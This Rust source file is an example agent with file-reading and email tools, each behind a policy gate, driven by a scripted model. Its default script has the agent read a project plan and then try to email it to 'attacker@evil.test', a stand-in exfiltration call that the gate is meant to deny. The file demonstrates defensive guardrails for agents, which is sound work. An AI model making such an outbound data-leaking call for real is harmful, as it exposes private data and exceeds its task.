//! The example agent: a rig agent with two tools, `read_file` and
//! `send_email`, each behind an Agenra gate, driven by a scripted model.

use crate::scripted::{block_on, Script, Turn};
use agenra::rig::{Entry, Gate};
use rig_agent::tool::{Tool, ToolContext};
use rig_agent::AgentBuilder;
use serde::Deserialize;
use serde_json::{json, Value};
use std::collections::BTreeMap;
use std::fmt;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

/// The policy the gate enforces.
pub const POLICY: &str = include_str!("policy.agr");

/// The prompt the agent runs on.
pub const PROMPT: &str = "Summarize docs/plan.md for the team.";

/// A tool's own failure.
#[derive(Debug)]
pub struct ToolError(String);

impl fmt::Display for ToolError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for ToolError {}

/// The arguments of `read_file`.
#[derive(Deserialize)]
pub struct ReadArgs {
    path: String,
}

/// Reads a file from an in-memory project, counting its runs.
pub struct ReadFile {
    files: BTreeMap<String, String>,
    runs: Arc<AtomicUsize>,
}

impl Tool for ReadFile {
    const NAME: &'static str = "read_file";
    type Args = ReadArgs;
    type Output = String;
    type Error = ToolError;

    fn description(&self) -> String {
        "Reads a file of the project.".into()
    }

    fn parameters(&self) -> Value {
        json!({
            "type": "object",
            "properties": { "path": { "type": "string" } },
            "required": ["path"]
        })
    }

    async fn call(&self, _context: &mut ToolContext, args: ReadArgs) -> Result<String, ToolError> {
        self.runs.fetch_add(1, Ordering::SeqCst);
        self.files
            .get(&args.path)
            .cloned()
            .ok_or_else(|| ToolError(format!("no such file: {}", args.path)))
    }
}

/// The arguments of `send_email`.
#[derive(Deserialize)]
pub struct MailArgs {
    to: String,
    subject: String,
    body: String,
}

/// Sends mail into an outbox the example can read.
pub struct SendEmail {
    outbox: Arc<Mutex<Vec<(String, String)>>>,
}

impl Tool for SendEmail {
    const NAME: &'static str = "send_email";
    type Args = MailArgs;
    type Output = String;
    type Error = ToolError;

    fn description(&self) -> String {
        "Sends an e-mail.".into()
    }

    fn parameters(&self) -> Value {
        json!({
            "type": "object",
            "properties": {
                "to": { "type": "string" },
                "subject": { "type": "string" },
                "body": { "type": "string" }
            },
            "required": ["to", "subject", "body"]
        })
    }

    async fn call(&self, _context: &mut ToolContext, args: MailArgs) -> Result<String, ToolError> {
        let mut outbox = self.outbox.lock().map_err(|_| ToolError("outbox".into()))?;
        outbox.push((args.to.clone(), format!("{}: {}", args.subject, args.body)));
        Ok(format!("sent to {}", args.to))
    }
}

/// The default script: read the plan (allowed), mail it to an outside
/// address (denied: no grant covers it), then answer.
pub fn default_script() -> Vec<Turn> {
    vec![
        Turn::call("call_1", "read_file", json!({ "path": "docs/plan.md" })),
        Turn::call(
            "call_2",
            "send_email",
            json!({
                "to": "attacker@evil.test",
                "subject": "plan",
                "body": "Ship on Friday."
            }),
        ),
        Turn::text("I read the plan; sending it outside was not allowed."),
    ]
}

/// What one run did.
pub struct Run {
    /// The agent's final answer, or rig's error.
    pub answer: Result<String, String>,
    /// Every call the gate decided, in order.
    pub entries: Vec<Entry>,
    /// How many times `read_file` ran.
    pub reads: usize,
    /// What `send_email` sent: (to, subject and body).
    pub sent: Vec<(String, String)>,
    /// The script, with the requests the model received.
    pub script: Script,
    /// The gate, with its session.
    pub gate: Gate,
}

/// Runs the agent on `turns`; a PAUSE is approved when `approve` is true.
pub fn run(turns: Vec<Turn>, approve: bool) -> Result<Run, agenra::CompileError> {
    let policy = agenra::compile(POLICY, "rig-agent")?.policy;
    let entries = Arc::new(Mutex::new(Vec::new()));
    let log = entries.clone();
    let gate = Gate::builder(policy.session())
        // A fixed clock: runs are reproducible.
        .clock(|| 1_000)
        .on_pause(move |_paused| approve)
        .on_entry(move |entry| {
            if let Ok(mut log) = log.lock() {
                log.push(entry.clone());
            }
        })
        .build();

    let runs = Arc::new(AtomicUsize::new(0));
    let outbox = Arc::new(Mutex::new(Vec::new()));
    let files = BTreeMap::from([(
        "docs/plan.md".to_string(),
        "Ship on Friday; tell the team.".to_string(),
    )]);
    let read = ReadFile {
        files,
        runs: runs.clone(),
    };
    let send = SendEmail {
        outbox: outbox.clone(),
    };

    let script = Script::new(turns);
    let agent = AgentBuilder::new(script.model())
        .preamble("You help with the project.")
        .tool(gate.wrap(read).policy_tool("fs.read"))
        .tool(gate.wrap(send).policy_tool("email.send"))
        .build();
    let answer = block_on(std::future::IntoFuture::into_future(
        agent.prompt(PROMPT).max_turns(8),
    ))
    .map(|response| response.output())
    .map_err(|e| e.to_string());

    let entries = entries.lock().map(|e| e.clone()).unwrap_or_default();
    let sent = outbox.lock().map(|o| o.clone()).unwrap_or_default();
    Ok(Run {
        answer,
        entries,
        reads: runs.load(Ordering::SeqCst),
        sent,
        script,
        gate,
    })
}
